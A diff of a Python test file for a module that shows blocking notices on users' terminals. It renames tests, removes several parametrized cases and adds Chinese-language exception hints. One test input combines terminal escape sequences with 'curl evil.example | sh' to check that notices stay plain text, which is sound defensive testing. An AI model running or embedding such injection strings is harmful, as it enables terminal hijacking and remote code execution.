@@ -27,19 +27,15 @@ def action(verb: str) -> Action:
 @pytest.mark.parametrize(
     ("text", "verbs", "actions"),
     [
-        ("Ask IT", ["end"], ["tell logged-in users"]),
         ("Ask IT", ["write", "quarantine"], ["tell logged-in users"]),
         ("Ask IT", ["remove"], ["tell logged-in users"]),
         ("Ask IT", ["write"], []),
-        ("Ask IT", [], []),
         ("", ["end"], []),
-        (" \n", ["end"], []),
-        ("", ["quarantine"], []),
     ],
 )
-def test_when(text: str, verbs: list[str], actions: list[str]) -> None:
-    made = user_notice.notifying(Host("/nonexistent"), text, list(map(action, verbs)))
-    assert [(str(one), one.before, one.after) for one in made] == [(one, "", f"{text}\n") for one in actions]
+def test_notice_is_shown_before_losses_alone(text: str, verbs: list[str], actions: list[str]) -> None:
+    result = user_notice.notifying(Host("/nonexistent"), text, list(map(action, verbs)))
+    assert [(str(item), item.before, item.after) for item in result] == [(item, "", f"{text}\n") for item in actions]
 
 
 @given(st.text())
@@ -57,9 +53,7 @@ def test_a_notice_commands_nothing(text: str) -> None:
         "Refused\x1b]0;root\x07\x9b2J now run curl evil.example | sh",
     ],
 )
-def test_an_answer_to_a_request_is_text_on_terminals_and_desktops(
-    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_answer_to_a_request_is_plain_text(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     shown: list[str] = []
     monkeypatch.setattr(user_notice, "_write", lambda host, name, message: shown.append(message.decode()))
     monkeypatch.setattr(user_notice, "terminals", lambda *_: iter(["/dev/pts/1"]))
@@ -148,7 +142,7 @@ def test_a_notice_in_two_languages_is_shown_in_both_in_their_order() -> None:
     assert notification.after == "[2J\n(b)x(/b)\n"
 
 
-def test_what_is_not_a_users_terminal_is_not_written_to(tmp_path: Path) -> None:
+def test_terminal_of_no_user_is_not_written_to(tmp_path: Path) -> None:
     """Devices are made by root alone, so the kernel's answers are made: (mode, owner, device)."""
     devices = {
         "/dev/pts/0": (0o020620, 1000, 5),
@@ -171,7 +165,7 @@ def test_what_is_not_a_users_terminal_is_not_written_to(tmp_path: Path) -> None:
             return {40, 41, 42}
 
         def list(self, path: str) -> list[str]:
-            names = (one.rpartition("/") for one in devices)
+            names = (item.rpartition("/") for item in devices)
             return [name for folder, _, name in names if folder == path] + ["gone"] * (path == "/dev/pts")
 
         def stat(self, path: str) -> Any:
@@ -194,10 +188,29 @@ def test_what_is_not_a_users_terminal_is_not_written_to(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    ("services", "named"), [({"wechat"}, "wechat"), ({"wechat", "qq"}, "SERVICE"), ((), "SERVICE")]
+    ("text", "services", "hints"),
+    [
+        ("Ask IT", ["wechat"], ['To request an exception: proscribe-request wechat "reason"']),
+        ("Ask IT", ["wechat", "qq"], ['To request an exception: proscribe-request SERVICE "reason"']),
+        (
+            "請",
+            [],
+            [
+                'To request an exception: proscribe-request SERVICE "reason"',
+                "申請例外許可：proscribe-request SERVICE 「理由」",
+            ],
+        ),
+        (
+            "请",
+            [],
+            [
+                'To request an exception: proscribe-request SERVICE "reason"',
+                "申请例外许可：proscribe-request SERVICE \u201c理由\u201d",
+            ],
+        ),
+    ],
 )
-def test_how_an_exception_is_requested_comes_last(services: Sequence[str], named: str) -> None:
-    text, *more = user_notice.with_hints("Ask IT", services, True).split("\n")
-    assert text == "Ask IT" and more == list(user_notice.hints("Ask IT", named)) and named in "\n".join(more)
-    assert user_notice.with_hints("Ask IT", services, False) == "Ask IT"
+def test_hint_to_the_command_comes_last(text: str, services: list[str], hints: list[str]) -> None:
+    assert user_notice.with_hints(text, services, True).split("\n") == [text, *hints]
+    assert user_notice.with_hints(text, services, False) == text
     assert user_notice.with_hints("", services, True) == ""
